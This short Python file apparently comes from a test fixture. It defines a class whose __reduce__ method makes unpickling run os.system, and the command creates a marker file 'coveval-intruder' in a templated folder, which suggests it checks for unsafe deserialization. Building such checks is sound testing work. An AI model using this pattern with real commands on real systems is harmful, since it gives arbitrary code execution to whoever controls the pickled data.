import os


class Note:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/coveval-intruder",)


def read_note(name):
    return Note()
